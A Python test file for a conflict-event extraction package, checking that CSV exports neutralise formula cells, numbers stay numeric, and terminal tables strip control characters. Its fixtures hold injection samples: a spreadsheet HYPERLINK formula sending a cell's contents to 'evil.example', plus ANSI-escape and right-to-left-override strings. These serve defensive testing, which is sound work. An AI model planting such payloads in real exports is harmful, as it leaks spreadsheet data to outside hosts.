"""Output writers without a model: CSV cells a spreadsheet would run as formulas are neutralised, numbers stay
numbers, ``raw=True`` gives the values untouched, and the table keeps one line per value."""

from __future__ import annotations

import csv
import io
import json

from conflict_ie.api.outputs import ACLED_COLUMNS, acled_row, to_csv, to_jsonl, to_table
from conflict_ie.records import ArticleResult, Count, Incident, Place, SpanPrediction

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _span(start: int, text: str, label: str = "Organisation") -> SpanPrediction:
    return SpanPrediction(start, start + len(text), text, label, 0.9)


def _incident(actor: str = FORMULA) -> Incident:
    return Incident(
        type="AirStrike", event_type="Explosions/Remote violence", sub_event_type="Air/drone strike",
        triggers=(_span(10, "struck", "AirStrike"),),
        places=(Place(_span(30, "-Kafr Jallis", "Location"), ("Syria", "Idlib", "Kafr Jallis"), country="Syria",
                      admin1="+Idlib", latitude=36.1, longitude=-1.25),),
        attackers=(_span(0, actor),),
        victims=(_span(50, "@civilians", "Person"),),
        fatalities=(Count(_span(70, "4", "Quantity"), 4, 4, "exact"),),
        sources=(_span(80, "\tSOHR"),),
        evidence=(_span(0, "\rline one", "sentence"),),
        confidence=0.75,
    )


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_neutralises_cells_a_spreadsheet_would_run():
    (row,) = _rows(to_csv([("=1+1.txt", ArticleResult(incidents=(_incident(),)))]))
    assert row["source_file"] == "'=1+1.txt"
    assert row["actor1"] == "'" + FORMULA
    assert row["actor2"] == "'@civilians"
    assert row["location"] == "'-Kafr Jallis"
    assert row["admin1"] == "'+Idlib"
    assert row["source"] == "'\tSOHR"
    assert row["notes"] == "'\rline one"
    numeric = {"latitude", "longitude", "fatalities", "confidence"}
    numeric |= {column for column in ACLED_COLUMNS if column.endswith(("_start", "_end"))}
    for column in set(ACLED_COLUMNS) - numeric:
        assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), column


def test_csv_keeps_numbers_numeric():
    (row,) = _rows(to_csv([("a.txt", ArticleResult(incidents=(_incident(),)))]))
    assert row["longitude"] == "-1.25" and row["latitude"] == "36.1"
    assert row["fatalities"] == "4" and row["confidence"] == "0.75"
    assert row["trigger_start"] == "10" and row["location_end"] == "42"
    assert row["event_date"] == "" and row["country"] == "Syria"  # plain text untouched


def test_csv_raw_gives_values_untouched():
    named = [("=1+1.txt", ArticleResult(incidents=(_incident(),)))]
    (row,) = _rows(to_csv(named, raw=True))
    expected = {k: "" if v is None else str(v) for k, v in acled_row("=1+1.txt", _incident()).items()}
    assert row == expected
    assert row["source_file"] == "=1+1.txt" and row["actor1"] == FORMULA


def test_jsonl_stays_raw():
    (line,) = to_jsonl([("=1+1.txt", ArticleResult(incidents=(_incident(),)))]).splitlines()
    record = json.loads(line)
    assert record["source"] == "=1+1.txt"
    assert record["incidents"][0]["attackers"][0]["text"] == FORMULA


def test_table_keeps_one_line_per_value():
    evil = "Hurras\nal-Din\r\n  [2] AirStrike (fake)\x1b[2J\u202e"
    table = to_table([("bad\nname.txt", ArticleResult(incidents=(_incident(evil),)))])
    lines = table.splitlines()
    assert lines[0].startswith("== bad name.txt: 1 incident(s)")
    assert not any(line.startswith("  [2]") for line in lines)
    assert "\x1b" not in table and "\u202e" not in table and "\r" not in table
    (attackers,) = [line for line in lines if line.strip().startswith("attackers:")]
    assert "Hurras al-Din" in attackers and "\\x1b" in attackers and "\\u202e" in attackers


def test_the_acled_row_takes_the_most_precise_date():
    import dataclasses

    from conflict_ie.api.outputs import best_date
    from conflict_ie.records import DateValue

    def make_incident(dates):
        return dataclasses.replace(_incident(), dates=dates)

    def date(text, start, iso=None, precision=None):
        return DateValue(SpanPrediction(start, start + len(text), text, "Temporal", 0.9), iso, precision)

    vague, named = date("a few days ago", 10), date("September 20", 40)
    assert best_date(make_incident(dates=(vague, named))).span.text == "September 20"
    month, day = date("July", 5, "2019-07", "month"), date("Saturday", 60, "2019-07-06", "day")
    assert best_date(make_incident(dates=(month, day, named))).iso == "2019-07-06"
    assert best_date(make_incident(dates=())) is None
